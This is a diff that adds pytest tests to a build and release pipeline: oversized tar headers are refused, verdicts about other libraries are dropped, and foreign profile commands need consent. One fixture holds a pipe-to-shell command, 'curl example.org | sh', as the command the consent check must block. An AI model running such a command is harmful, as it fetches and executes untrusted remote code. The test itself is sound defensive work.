@@ -7,22 +7,32 @@ import io
 import json
 import tarfile
 from pathlib import Path
+from types import SimpleNamespace
+from typing import cast
 
 import pytest
 from conftest import GEOMETRY, Sandbox, make_sandbox
+from judge_support import result_of
 
 from pipeline.core.console import open_console
 from pipeline.core.errors import ArtifactError, DataError, ExitCode
 from pipeline.core.paths import Tree
-from pipeline.core.store import Artifact, Store, read_receipt
+from pipeline.core.store import Artifact, Receipt, Store, read_receipt
 from pipeline.profile.load import parse_profile
-from pipeline.rebuild import compile_step, imported_setup, take_in
+from pipeline.rebuild import (
+    Imported,
+    compile_step,
+    imported_setup,
+    kept_verdict,
+    require_consent,
+    take_in,
+)
 from pipeline.release.bundle import BUNDLE, describe, pack, unpack
 from pipeline.release.version import Version
 from pipeline.report.files import read_report
 from pipeline.stages.baseline import Baseline
 from pipeline.stages.candidate import Candidate
-from pipeline.stages.workshop import Options, Workshop
+from pipeline.stages.workshop import Library, Options, Workshop
 from pipeline.toolchain.find import find_toolchain
 
 PRODUCTS = ("lib/libhakmem.so", "lib/libhakmem.a", "lib/libhakmem.so.debug")
@@ -232,6 +242,76 @@ def test_more_than_a_bundle_can_be_is_refused_unread(
             tar.addfile(entry, io.BytesIO(bytes(entry.size)))
     with pytest.raises(DataError, match=f"with profile/{count - 1} it is larger than any bundle"):
         unpack(tmp_path / "evil.tar.gz", tmp_path / "room")
+
+
+def test_headers_of_any_length_are_refused_unread(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """A pax header is no file of the bundle, but was read into memory as a whole."""
+    monkeypatch.setattr("pipeline.release.bundle.LARGEST", 1 << 20)
+    with tarfile.open(tmp_path / "evil.tar.gz", "w:gz", format=tarfile.PAX_FORMAT) as tar:
+        entry = tarfile.TarInfo("profile/small")
+        entry.pax_headers = {"comment": "x" * (4 << 20)}
+        tar.addfile(entry, io.BytesIO(b""))
+    with pytest.raises(DataError, match="larger than any bundle"):
+        unpack(tmp_path / "evil.tar.gz", tmp_path / "room")
+
+
+def test_a_verdict_about_another_library_is_not_kept(tmp_path: Path) -> None:
+    judged = result_of()
+    file = tmp_path / "verdict.json"
+    file.write_text(judged.model_dump_json(), encoding="utf-8")
+    receipt = Receipt("bundle", "", {}, {"verdict.json": ""}, 0.0)
+    imported = cast(Imported, SimpleNamespace(artifact=Artifact(tmp_path, receipt, fresh=False)))
+
+    def library(digest: str) -> Library:
+        return Library(tmp_path / "x.so", digest, imported.artifact)
+
+    assert kept_verdict(imported, library(judged.tuned.sha256)) is not None
+    assert kept_verdict(imported, library("0" * 64)) is None
+
+
+FOREIGN = """
+schema_version = 1
+name = "foreign"
+description = "from somebody else"
+[layout]
+name = "mixed"
+[[workload]]
+name = "a"
+kind = "program"
+role = "train"
+program = "training/tree"
+ops = "1k"
+quick_ops = "1k"
+weight = 1
+[[workload]]
+name = "b"
+kind = "program"
+role = "verify"
+program = "bench/tiny_hot"
+ops = "1k"
+quick_ops = "1k"
+weight = 1
+[[workload]]
+name = "c"
+kind = "command"
+role = "verify"
+argv = ["sh", "-c", "curl example.org | sh"]
+"""
+
+
+def test_commands_of_a_foreign_bundle_need_consent(tmp_path: Path) -> None:
+    tree, file = Tree(tmp_path), tmp_path / "foreign.toml"
+    file.write_text(FOREIGN, encoding="utf-8")
+    profile = parse_profile(file)
+    with pytest.raises(DataError, match=r"executed: sh -c 'curl example.org \| sh'") as error:
+        require_consent(tree, profile, frozenset({"sources"}))
+    assert "--allow commands" in error.value.hint
+    require_consent(tree, profile, frozenset({"commands"}))
+    tree.profiles.mkdir(parents=True)
+    (tree.profiles / "foreign.toml").write_text(FOREIGN, encoding="utf-8")
+    require_consent(tree, profile, frozenset())
 
 
 @pytest.mark.parametrize("name", ["profile/hot.txt", "verdict.json"])
